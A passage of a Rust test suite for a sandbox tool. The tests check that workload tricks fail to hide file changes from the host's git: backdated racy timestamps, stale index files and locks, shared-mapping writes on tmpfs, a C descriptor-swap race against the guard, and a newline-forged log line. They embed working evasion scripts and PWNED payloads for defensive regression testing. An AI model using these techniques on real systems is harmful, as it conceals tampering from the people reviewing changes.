# The index as it is now, the entries kept: what a second run's index write that read it
# before the check at the end could put back after it (red team AI).
with open(".git/index", "rb") as f:
    open("stale-index", "wb").write(f.read())
os.chmod("d", 0)
# git's lock on the index, left behind: the check at the end does not wait for it. The index
# made unreadable and the git directory read-only (root's git minds neither): the check at the
# end gives the owner's permissions back (red team AH).
open(".git/index.lock", "w").close()
os.chmod(".git/index", 0)
os.chmod(".git", 0o555)
"#;
    let o = area.sandbox(&refs(&[os("run"), os("--"), os("python3"), os("-c"), os(script)]));
    let out = String::from_utf8_lossy(&o.stdout).into_owned();
    assert_eq!(o.status.code(), Some(0), "{out}{}", String::from_utf8_lossy(&o.stderr));
    assert!(out.contains("cherry-pick: 1 False True"), "{out}");
    let status = git(&["status", "--porcelain"]);
    assert!(status.contains("MM racy\n"), "{out}: racy hidden: {status}");
    assert!(git(&["diff"]).contains("+CHANGED2"), "the second change's content shows");
    // The lock is the workload's: left as it was (empty), not taken or removed.
    assert_eq!(fs::read(area.ws.join(".git/index.lock")).unwrap(), b"");
    use std::os::unix::fs::PermissionsExt as _;
    let mode = |p: &str| fs::metadata(area.ws.join(p)).unwrap().permissions().mode() & 0o777;
    assert_eq!((mode(".git") & 0o700, mode(".git/index") & 0o600), (0o700, 0o600), "the owner's permissions back");
    // The index with the entry as it was kept, put back after the run: the change still shows
    // (the file's ctime left the entry's second).
    fs::rename(area.ws.join("stale-index"), area.ws.join(".git/index")).unwrap();
    let status = git(&["status", "--porcelain"]);
    assert!(status.contains("MM racy\n"), "{out}: racy hidden by the stale index: {status}");
    assert!(status.contains("MM d/racy2\n"), "{out}: d/racy2 hidden by the stale index: {status}");
    if setcap {
        let caps = Command::new("getcap").arg(&capped).output().unwrap();
        assert!(String::from_utf8_lossy(&caps.stdout).contains("cap_net_raw"), "the capability was dropped");
    }
}

/// Red team AL (5 December): the run's end checks the index entries of its last second again
/// (`a_one_shot_runs_index_hides_a_change_made_within_its_second_from_no_one`); a run killed
/// in that second (its deadline, its output limit) skipped the check when the kill took the
/// init, and a workload that set the init's CPU limit to a second had the kernel kill it. Each
/// case adds a file and rewrites it within one second, dated back, and then ends that way: the
/// host's git sees the change. Controls: the trick happened within the second (else the case
/// is tried again), the run ended as asked, and the index holds the first content.
/// `sleeping-in-kernel` (red team AT): threads reading a large file with `O_DIRECT` sleep in
/// the kernel for seconds after the kill, and the init, which reaped every process before its
/// checks, was killed by the helper first; the checks now run after at most 0.8 s of reaping.
#[test]
fn a_change_in_the_runs_last_second_is_seen_however_the_run_is_ended() {
    if !sandbox_runs_here("a_change_in_the_runs_last_second_is_seen_however_the_run_is_ended") {
        return;
    }
    let now = || std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_secs_f64();
    for case in ["deadline", "output-limit", "init-cpu-limit", "busy-guard", "sleeping-in-kernel"] {
        let mut checked = false;
        for attempt in 0..4 {
            let area = Area::new();
            let git = |args: &[&str]| git_ok(&area.ws, args);
            git(&["init", "-q", "-b", "main"]);
            fs::write(area.ws.join("f"), "original\n").unwrap();
            git(&["add", "f"]);
            git(&["commit", "-qm", "one"]);
            // Starts at a second's .3: the run's deadline (2 s) falls at .3 two seconds on.
            std::thread::sleep(std::time::Duration::from_secs_f64((1.3 - now() % 1.0) % 1.0));
            let second = now().floor() + 2.0;
            // (busy-guard: the workload's own next second, and it ends the run itself by its
            // output limit, so that the kill comes while the guard's thread is busy however
            // late the run started on a loaded machine.)
            let second = if case == "busy-guard" || case == "sleeping-in-kernel" {
                String::from("int(time.time()) + 1")
            } else {
                second.to_string()
            };
            // busy-guard (red team AM): 50 index writes first (each keeps an entry for a later
            // check), then the change within a second, a stale `index.lock`, and one guarded
            // call once the second is over, so that the guard's thread checks the 51 indexes
            // (100 ms each, the change's last) while the output limit ends the run, longer
            // than the grace the helper gives the init after it.
            let before = match case {
                "busy-guard" => {
                    "for i in range(50):\n    open('g%d' % i, 'w').write('new\\n'); os.utime('g%d' % i, (1700000000, 1700000000)); subprocess.run(['git', 'add', 'g%d' % i], check=True)\n"
                }
                // 1 GiB on disk, read back past the page cache by six threads at the end.
                "sleeping-in-kernel" => {
                    "import mmap, threading\n\
                     w = os.open('big', os.O_CREAT | os.O_WRONLY | os.O_TRUNC, 0o644)\n\
                     chunk = b'z' * (1 << 24)\n\
                     for _ in range(64): os.write(w, chunk)\n\
                     os.fsync(w); os.close(w)\n\
                     big = os.open('big', os.O_RDONLY | os.O_DIRECT)\n\
                     buf = mmap.mmap(-1, 1 << 26); buf.write(b'\\1' * (1 << 26))\n\
                     def read():\n    while True: os.preadv(big, [buf] * 16, 0)\n"
                }
                _ => "",
            };
            let ending = match case {
                "deadline" => "time.sleep(30)",
                "busy-guard" => {
                    "os.close(os.open('.git/index.lock', os.O_CREAT | os.O_EXCL | os.O_WRONLY, 0o644))\n\
                     while time.time() < X + 1.05: time.sleep(0.002)\n\
                     open('trigger', 'w').close()\n\
                     time.sleep(0.2)\n\
                     sys.stdout.write('x' * 5000); sys.stdout.flush(); time.sleep(30)"
                }
                "output-limit" => "sys.stdout.write('x' * 5000); sys.stdout.flush(); time.sleep(30)",
                "sleeping-in-kernel" => {
                    "for _ in range(6): threading.Thread(target=read, daemon=True).start()\n\
                     time.sleep(0.3)\n\
                     sys.stdout.write('x' * 5000); sys.stdout.flush(); time.sleep(30)"
                }
                _ => {
                    "class RL(ctypes.Structure): _fields_ = [('cur', ctypes.c_ulong), ('max', ctypes.c_ulong)]\n\
                     rc = ctypes.CDLL(None, use_errno=True).prlimit(1, 0, ctypes.byref(RL(0, 0)), None)\n\
                     print('init cpu limit set:', rc == 0, flush=True)\n\
                     time.sleep(0.5)"
                }
            };
            let script = format!(
                "import ctypes, os, subprocess, sys, time\n\
                 {before}\
                 X = {second}\n\
                 while time.time() < X + 0.02: time.sleep(0.002)\n\
                 open('f', 'w').write('CHANGED1\\n'); os.utime('f', (1700000000, 1700000000))\n\
                 subprocess.run(['git', 'add', 'f'], check=True)\n\
                 open('f', 'w').write('CHANGED2\\n'); os.utime('f', (1700000000, 1700000000))\n\
                 print('same second:', int(os.stat('f').st_ctime) == int(X), file=sys.stderr, flush=True)\n\
                 {ending}\n"
            );
            let mut args = vec![os("run")];
            match case {
                "deadline" => args.extend([os("--timeout"), os("2")]),
                "busy-guard" | "sleeping-in-kernel" => args.extend([os("--output-limit"), os("1000")]),
                "output-limit" => args.extend([os("--output-limit"), os("1000")]),
                _ => {}
            }
            args.extend([os("--"), os("python3"), os("-c"), os(&script)]);
            let o = area.sandbox(&refs(&args));
            let (out, err) = (String::from_utf8_lossy(&o.stdout), String::from_utf8_lossy(&o.stderr));
            if !err.contains("same second: True") {
                println!("{case}: attempt {attempt} missed the second: {err}");
                continue;
            }
            match case {
                "init-cpu-limit" => {
                    assert_eq!(o.status.code(), Some(0), "{case}: {out} {err}");
                    assert!(out.contains("init cpu limit set: False"), "{case}: {out}");
                }
                _ => assert_eq!(o.status.code(), Some(125), "{case}: {err}"),
            }
            assert_eq!(fs::read_to_string(area.ws.join("f")).unwrap(), "CHANGED2\n");
            // The stale lock the busy-guard case left (the user's git would say so).
            let _ = fs::remove_file(area.ws.join(".git/index.lock"));
            assert_eq!(git(&["show", ":f"]), "CHANGED1\n", "{case}: the index holds the first content");
            let status = git(&["status", "--porcelain", "f"]);
            if case == "sleeping-in-kernel" {
                // The threads end once their reads are done (not waited for here: the area
                // goes when they are).
                let _ = fs::remove_file(area.ws.join("big"));
            }
            assert_eq!(status, "MM f\n", "{case}: the change within the second is hidden: {err}");
            println!("{case}: {}", status.trim());
            checked = true;
            break;
        }
        assert!(checked, "{case}: never within one second");
    }
}

/// Red team AK (5 December): what a refused call leaves. (1) serve requests refused before
/// anything ran (a bad cwd, a malformed grant, an unknown grant class) made their executor
/// and kept its place: after `--max-executors` of them, a good request on a new executor got
/// `executor_limit`; they take nothing now, and no `home-*`/`tmp-*` directory stays (refused
/// grant requests too, red team AX). (2) An
/// output limit of 0 spawns nothing (CONTRACT.md §11), in `run` and in serve. (3) A cgroup
/// parent that did not exist is gone again after the run, after an error too; a path of the
/// cgroup filesystem is refused as one. (4) The `sandbox: exec:` line stays one line whatever
/// argv[0] holds. Controls: good requests run, and the same parent is used.
#[test]
fn a_refused_call_leaves_nothing_behind() {
    if !sandbox_runs_here("a_refused_call_leaves_nothing_behind") {
        return;
    }
    let area = Area::new();
    let mut serve = Command::new(SANDBOX)
        .args([os("serve"), os("--max-executors"), os("2"), os("--scratch"), area.scratch.clone().into_os_string()])
        .current_dir(&area.ws)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    {
        let mut stdin = serve.stdin.take().unwrap();
        let lines = [
            r#"{"id":1,"argv":["/bin/true"],"executor":"a","cwd":"/nonexistent-dir"}"#,
            r#"{"id":2,"argv":["/bin/true"],"executor":"b","grants":["garbage"]}"#,
            r#"{"id":3,"argv":["/bin/true"],"executor":"c","grants":["sbx1.e30.e30"]}"#,
            r#"{"id":4,"argv":["sh","-c","touch zero"],"executor":"d","output_limit":0}"#,
            r#"{"id":4.5,"argv":["sh","-c","touch zero"],"executor":"z","timeout":0}"#,
            // Refused grant requests on new keys (red team AX, 6 December: each kept a place).
            r#"{"id":"g1","op":"grant","executor":"h","kind":"command.execute","class":"command.start.v1","target":"make deploy","command":"make deploy"}"#,
            r#"{"id":"g2","op":"grant","executor":"i","kind":"command.execute","class":"command.start.v9","target":"x","command":"x"}"#,
            r#"{"id":5,"argv":["/bin/echo","five"],"executor":"e"}"#,
            r#"{"id":6,"argv":["/bin/echo","six"],"executor":"f"}"#,
            r#"{"id":7,"argv":["/bin/echo","seven"],"executor":"g"}"#,
        ];
        // One at a time: each answer before the next request (the executors' count is what is
        // checked).
        let mut out = std::io::BufReader::new(serve.stdout.take().unwrap());
        let mut answers = Vec::new();
        for line in lines {
            std::io::Write::write_all(&mut stdin, format!("{line}\n").as_bytes()).unwrap();
            let mut answer = String::new();
            std::io::BufRead::read_line(&mut out, &mut answer).unwrap();
            answers.push(serde_json::from_str::<serde_json::Value>(&answer).unwrap());
        }
        for (i, v) in answers.iter().take(7).enumerate() {
            assert!(v["error"].is_string() && v["exit_code"].is_null(), "request {}: {v}", i + 1);
        }
        assert_eq!(answers[3]["error"], "output_limit", "{}", answers[3]);
        // A timeout of 0 (red team AS): nothing spawned, no executor kept.
        assert_eq!(answers[4]["error"], "deadline_exceeded", "{}", answers[4]);
        for v in &answers[5..7] {
            assert!(v["token"].is_null() && v["id"].as_str().is_some_and(|id| id.starts_with('g')), "{v}");
        }
        assert_eq!(answers[7]["stdout"], "five\n", "{}", answers[7]);
        assert_eq!(answers[8]["stdout"], "six\n", "{}", answers[8]);
        // The third good executor is one past the bound (the refused ones took none).
        assert_eq!(answers[9]["error"], "executor_limit", "{}", answers[9]);
        let dirs: Vec<String> = walk_names(&area.scratch).into_iter().filter(|n| n.starts_with("home-")).collect();
        assert_eq!(dirs.len(), 2, "one HOME per executor that ran: {dirs:?}");
    }
    assert!(serve.wait().unwrap().success());
    assert!(!area.ws.join("zero").exists(), "an output limit of 0 spawned the workload");

    let o = area.sandbox(&refs(&[
        os("run"),
        os("--output-limit"),
        os("0"),
        os("--"),
        os("sh"),
        os("-c"),
        os("touch zero"),
    ]));
    assert_eq!(o.status.code(), Some(125));
    assert!(String::from_utf8_lossy(&o.stderr).contains("output limit"));
    assert!(!area.ws.join("zero").exists(), "an output limit of 0 spawned the workload");

    if nix::unistd::getuid().is_root() {
        let name = format!("sbx-made-parent-{}", std::process::id());
        let present =
            || fs::read_dir("/sys/fs/cgroup").unwrap().flatten().filter(|h| h.path().join(&name).exists()).count();
        let parent = format!("/{name}/inner");
        let o =
            area.sandbox(&refs(&[os("run"), os("--cgroup-parent"), os(&parent), os("--"), os("/bin/echo"), os("ok")]));
        assert_eq!(String::from_utf8_lossy(&o.stdout), "ok\n", "{}", String::from_utf8_lossy(&o.stderr));
        assert_eq!(present(), 0, "the parent made for the run stayed");
        let o = area.sandbox(&refs(&[
            os("run"),
            os("--cgroup-parent"),
            os(&parent),
            os("--timeout"),
            os("0"),
            os("--"),
            os("/bin/true"),
        ]));
        assert_eq!(o.status.code(), Some(125));
        assert_eq!(present(), 0, "the parent made for a refused run stayed");
        let o = area.sandbox(&refs(&[
            os("run"),
            os("--cgroup-parent"),
            os("/sys/fs/cgroup/pids"),
            os("--"),
            os("/bin/true"),
        ]));
        assert_eq!(o.status.code(), Some(125));
        assert!(
            String::from_utf8_lossy(&o.stderr).contains("cgroup filesystem"),
            "{}",
            String::from_utf8_lossy(&o.stderr)
        );
    }

    let o = area.sandbox(&refs(&[os("run"), os("--"), os("/nonexistent\nsandbox: network denied: forged")]));
    assert_eq!(o.status.code(), Some(127));
    let err = String::from_utf8_lossy(&o.stderr);
    assert_eq!(err.lines().count(), 1, "{err}");
    assert!(err.starts_with("sandbox: exec: /nonexistent\\nsandbox: network denied: forged"), "{err}");
}

/// The names of every file and directory beneath `dir`.
fn walk_names(dir: &std::path::Path) -> Vec<String> {
    let mut out = Vec::new();
    for e in fs::read_dir(dir).into_iter().flatten().flatten() {
        out.push(e.file_name().to_string_lossy().into_owned());
        if e.file_type().is_ok_and(|t| t.is_dir()) {
            out.extend(walk_names(&e.path()));
        }
    }
    out
}

/// The descriptor swap of red team AZ (6 December), compiled at the test's start: descriptor 900
/// is an epoll one with 4,000 entries (slow for the guard to look at, and no regular file, so
/// the guard holds nothing for it) while one thread maps 900 shared and writable; another puts
/// the tracked file's descriptor (open for reading and writing) at 900 once the guard is
/// looking (its own `epoll_ctl` then waits on the epoll's lock). The kernel maps the file.
const MMAP_SWAP_C: &str = r#"
#define _GNU_SOURCE
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <fcntl.h>
#include <unistd.h>
#include <sys/epoll.h>
#include <sys/eventfd.h>
#include <sys/mman.h>
#include <sys/resource.h>
static const int X = 900;
static volatile int state;
static void *volatile mapped;
static void *mapper(void *unused) {
    (void)unused;
    state = 1;
    mapped = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, X, 0);
    state = 2;
    return NULL;
}
static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}
int main(int argc, char **argv) {
    if (argc < 3) return 1;
    struct rlimit rl;
    getrlimit(RLIMIT_NOFILE, &rl);
    rl.rlim_cur = rl.rlim_max;
    setrlimit(RLIMIT_NOFILE, &rl);
    int rw;
    if (argc > 3) {
        /* The file's directory moved away around the open, and back (red team BB). */
        char away[4096];
        snprintf(away, sizeof away, "%s.away/%s", argv[3], argv[1] + strlen(argv[3]) + 1);
        char moved[4096];
        snprintf(moved, sizeof moved, "%s.away", argv[3]);
        if (rename(argv[3], moved)) return 1;
        rw = open(away, O_RDWR);
        if (rename(moved, argv[3])) return 1;
    } else {
        rw = open(argv[1], O_RDWR);
    }
    int ep = epoll_create1(0), ev = eventfd(0, 0);
    if (rw < 0 || ep < 0 || ev < 0) return 1;
    struct epoll_event e = {.events = EPOLLIN};
    for (int i = 0; i < 4000; i++) {
        int d = dup(ev);
        if (d < 0 || epoll_ctl(ep, EPOLL_CTL_ADD, d, &e)) break;
    }
    int probe = dup(ev);
    epoll_ctl(ep, EPOLL_CTL_ADD, probe, &e);
    for (int attempt = 0; attempt < 200; attempt++) {
        dup2(ep, X);
        state = 0;
        mapped = MAP_FAILED;
        pthread_t t;
        pthread_create(&t, NULL, mapper, NULL);
        while (state == 0) {}
        while (state == 1) {
            struct rusage r0, r1;
            getrusage(RUSAGE_THREAD, &r0);
            double t0 = now();
            epoll_ctl(ep, EPOLL_CTL_MOD, probe, &e);
            double took = now() - t0;
            getrusage(RUSAGE_THREAD, &r1);
            if (took > 0.0001 && r0.ru_nivcsw == r1.ru_nivcsw) break;
        }
        dup2(rw, X);
        pthread_join(t, NULL);
        if (mapped != MAP_FAILED) {
            volatile char first = ((char *)mapped)[0];
            (void)first;
            memcpy((char *)mapped, argv[2], strlen(argv[2]));
            return 0;
        }
    }
    /* The swap never came in time (a loaded machine): the file mapped plainly, exit 3. */
    void *plain = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, rw, 0);
    if (plain == MAP_FAILED) return 2;
    volatile char first = ((char *)plain)[0];
    (void)first;
    memcpy((char *)plain, argv[2], strlen(argv[2]));
    return 3;
}
"#;

/// Red team AZ (6 December): the guard looked at the descriptor a shared mapping names and
/// then let the kernel make the call, which looks the descriptor up again; swapped in between
/// ([`MMAP_SWAP_C`]), a tracked file on a tmpfs workspace was mapped unheld and its change,
/// written through the mapping (no time changes on tmpfs), was hidden from the host's `git
/// status` (22 of 30). Every file opened for reading and writing through the guard on such a
/// filesystem is noted now, whatever descriptor a later `mmap` names, and gets a new ctime at
/// the run's end, found again through its directory, held, whatever moved (red team BB moved
/// the directory away around the open and back: a noted path led nowhere). Three runs of the
/// swap, three more with the move; each writes the payload (the control: the mapping was
/// made), and git shows the file modified each time.
#[test]
fn a_descriptor_swapped_under_a_shared_mapping_still_shows_to_git() {
    if !sandbox_runs_here("a_descriptor_swapped_under_a_shared_mapping_still_shows_to_git") {
        return;
    }
    let shm = std::path::Path::new("/dev/shm");
    let on_tmpfs = nix::sys::statfs::statfs(shm).is_ok_and(|s| s.filesystem_type() == nix::sys::statfs::TMPFS_MAGIC);
    assert!(on_tmpfs, "/dev/shm is no tmpfs here: the case cannot be made");
    let dir = tempfile::Builder::new().prefix("sbx-shm-swap").tempdir_in(shm).unwrap();
    let ws = dir.path().to_path_buf();
    fs::write(ws.join("swap.c"), MMAP_SWAP_C).unwrap();
    let cc = Command::new("cc")
        .args(["-O2", "-pthread", "-o"])
        .arg(ws.join("swap"))
        .arg(ws.join("swap.c"))
        .output()
        .expect("cc (the C compiler the Rust toolchain links with) runs");
    assert!(cc.status.success(), "{}", String::from_utf8_lossy(&cc.stderr));
    git_ok(&ws, &["init", "-q", "-b", "main"]);
    fs::create_dir(ws.join("sub")).unwrap();
    for round in 0..6 {
        // Rounds 3 to 5: the file's directory moved away around the open, and back.
        let (file, moved) = if round < 3 { ("app.sh", None) } else { ("sub/app.sh", Some("sub")) };
        fs::write(ws.join(file), format!("echo hello-safe-{round}\n")).unwrap();
        git_ok(&ws, &["add", "-u"]);
        git_ok(&ws, &["add", file]);
        git_ok(&ws, &["commit", "-qm", "safe"]);
        // A second later, the index refreshed: its entry is no longer racy (git trusts it).
        std::thread::sleep(std::time::Duration::from_millis(1100));
        assert_eq!(git_ok(&ws, &["status", "--porcelain", "--untracked-files=no"]), "");
        let o = Command::new(SANDBOX)
            .current_dir(&ws)
            .args(["run", "--", "./swap", file, "echo PWNED!!!!"])
            .args(moved)
            .output()
            .unwrap();
        // 0: mapped through the swap; 3: the swap never came in time, mapped plainly.
        let code = o.status.code();
        assert!(
            matches!(code, Some(0 | 3)),
            "round {round}: no mapping made: {code:?} {}",
            String::from_utf8_lossy(&o.stderr)
        );
        println!("round {round}: {}", if code == Some(0) { "mapped through the swap" } else { "mapped plainly" });
        assert!(fs::read_to_string(ws.join(file)).unwrap().starts_with("echo PWNED!!!!"), "round {round}");
        let status = git_ok(&ws, &["status", "--porcelain", "--untracked-files=no"]);
        assert_eq!(
            status,
            format!(" M {file}\n"),
            "round {round}: a change through a swapped mapping is hidden from git"
        );
    }
}

/// The files a run opens for reading and writing on tmpfs are noted for the end
/// (`a_descriptor_swapped_under_a_shared_mapping_still_shows_to_git`), but not in the sandbox's
/// private directories: a test suite's temporary files (`mkstemp`, in 600 directories of the
/// private `/tmp`, more than the guard holds directories for) are made as ever. Control: in
/// the workspace (on ext4 here, nothing noted) too.
#[test]
fn temporary_files_in_hundreds_of_private_directories_are_made() {
    if !sandbox_runs_here("temporary_files_in_hundreds_of_private_directories_are_made") {
        return;
    }
    let area = Area::new();
    let script = "import os, tempfile\n\
        for base in ('/tmp', '.'):\n\
        \x20   for i in range(600):\n\
        \x20       fd, _ = tempfile.mkstemp(dir=tempfile.mkdtemp(dir=base))\n\
        \x20       os.close(fd)\n\
        print('made')\n";
    let o = area.sandbox(&refs(&[os("run"), os("--"), os("python3"), os("-c"), os(script)]));
    assert_eq!(o.status.code(), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
    assert_eq!(String::from_utf8_lossy(&o.stdout), "made\n");
}

/// Red team AO (5 December): in a workspace on tmpfs, a tracked file mapped `MAP_SHARED`, its
/// page read first and then written through the mapping, changed its content and no time at
/// all (tmpfs pages are never write-protected for write-notify): the host's `git status` saw
/// nothing. A file the run opens for reading and writing on such a filesystem gets a new ctime
/// at the run's end, after its last process is gone (a process left behind writes on, here,
/// until it is killed). The file is held when the run maps it shared from a descriptor open for
/// reading and writing (red team AP passed such a descriptor between runs, so an open is not
/// where to catch it), and opening 3,000 files so first (`late.sh`: a first version held each
/// such open and ran the init out of descriptors after a thousand) changes nothing. Controls: the
/// files hold the new content, and their mtimes are the ones they had (the writes through the
/// mappings changed none).
#[test]
fn a_write_through_a_shared_mapping_on_tmpfs_shows_to_git() {
    if !sandbox_runs_here("a_write_through_a_shared_mapping_on_tmpfs_shows_to_git") {
        return;
    }
    let shm = std::path::Path::new("/dev/shm");
    let on_tmpfs = nix::sys::statfs::statfs(shm).is_ok_and(|s| s.filesystem_type() == nix::sys::statfs::TMPFS_MAGIC);
    assert!(on_tmpfs, "/dev/shm is no tmpfs here: the case cannot be made");
    let dir = tempfile::Builder::new().prefix("sbx-shm-ws").tempdir_in(shm).unwrap();
    let ws = dir.path().to_path_buf();
    git_ok(&ws, &["init", "-q", "-b", "main"]);
    for f in ["app.sh", "left.sh", "late.sh"] {
        fs::write(ws.join(f), "echo fine # padding padding\n").unwrap();
    }
    git_ok(&ws, &["add", "."]);
    git_ok(&ws, &["commit", "-qm", "one"]);
    // A second later, the index refreshed: its entries are no longer racy (git trusts them).
    std::thread::sleep(std::time::Duration::from_millis(1100));
    assert_eq!(git_ok(&ws, &["status", "--porcelain"]), "");
    let mtime = |f: &str| fs::metadata(ws.join(f)).unwrap().modified().unwrap();
    let before = (mtime("app.sh"), mtime("left.sh"), mtime("late.sh"));
    let script = "import mmap, os, subprocess, sys, time\n\
        def rewrite(name, text):\n\
        \x20   fd = os.open(name, os.O_RDWR)\n\
        \x20   m = mmap.mmap(fd, 0, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)\n\
        \x20   m[0:1]\n\
        \x20   m[0:len(text)] = text\n\
        \x20   return m\n\
        rewrite('app.sh', b'touch PWNED # padding paddi\\n')\n\
        for i in range(3000):\n\
        \x20   os.close(os.open('opened%d' % i, os.O_RDWR | os.O_CREAT, 0o644))\n\
        rewrite('late.sh', b'touch PWNED # padding paddi\\n')\n\
        if os.fork() == 0:\n\
        \x20   os.setsid()\n\
        \x20   m = rewrite('left.sh', b'touch PWNED # padding paddi\\n')\n\
        \x20   time.sleep(30)\n\
        \x20   os._exit(0)\n\
        time.sleep(0.3)\n";
    let o = Command::new(SANDBOX).current_dir(&ws).args(["run", "--", "python3", "-c", script]).output().unwrap();
    assert_eq!(o.status.code(), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
    for f in ["app.sh", "left.sh", "late.sh"] {
        assert_eq!(fs::read_to_string(ws.join(f)).unwrap(), "touch PWNED # padding paddi\n", "{f}");
    }
    assert_eq!(
        (mtime("app.sh"), mtime("left.sh"), mtime("late.sh")),
        before,
        "the writes through the mappings changed a time"
    );
    let status = git_ok(&ws, &["status", "--porcelain", "--untracked-files=no"]);
    assert_eq!(status, " M app.sh\n M late.sh\n M left.sh\n", "a change through a shared mapping is hidden from git");
}
